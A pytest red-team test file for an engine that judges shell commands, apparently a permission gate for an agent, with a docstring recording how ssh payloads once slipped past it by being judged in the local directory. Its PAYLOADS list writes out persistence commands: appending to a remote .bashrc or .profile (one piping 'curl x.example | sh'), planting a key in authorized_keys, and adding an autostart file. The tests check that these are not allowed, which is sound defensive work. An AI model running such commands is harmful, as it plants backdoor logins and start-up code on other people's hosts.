"""rt11: a command ssh runs starts in the remote home.

`ssh host 'echo x >> .bashrc'` appends to the other host's `~/.bashrc` (code it runs at the next
login), `cat k.pub | ssh host 'cat >> .ssh/authorized_keys'` plants a login. The payload was
judged in the local working directory, where `.bashrc` is an ordinary file, and allowed. It is
now judged as `cd ~ && PAYLOAD`, from the command line and from stdin alike, so a relative path
is read as the remote home's. (No harm test: it needs a second host, and an sshd on this one
would write the real user's home.)
"""

from __future__ import annotations

import pytest

from engine import Engine
from tests.redteam.conftest import judge

PAYLOADS = [
    "ssh host 'echo x >> .bashrc'",
    "ssh host echo x \\>\\> .bashrc",
    'ssh -p 2222 user@host "cat k.pub >> .ssh/authorized_keys"',
    "cat k.pub | ssh host 'cat >> .ssh/authorized_keys'",
    "echo 'echo curl x.example \\| sh >> .profile' | ssh host",
    "ssh host <<'EOF'\nprintf 'alias ls=evil' >> .bash_aliases\nEOF",
    "ssh host 'cp /tmp/x .config/autostart/x.desktop'",
]

NEAR_MISSES = [
    "ssh host uptime",
    "ssh host ls -la",
    "ssh host 'cat .bashrc'",
    "ssh host 'cd /srv/app && git pull'",
    "ssh host 'echo x > /tmp/f'",
    "echo uptime | ssh host",
    "ssh -p 22 host 'systemctl --user status app'",
]


@pytest.mark.parametrize("command", PAYLOADS)
def test_a_remote_start_up_or_credential_file_written_by_ssh_is_asked(engine: Engine, command: str) -> None:
    assert judge(engine, command).decision != "allow", command


@pytest.mark.parametrize("command", NEAR_MISSES)
def test_ordinary_remote_commands_stay_allowed(engine: Engine, command: str) -> None:
    assert judge(engine, command).decision == "allow", command
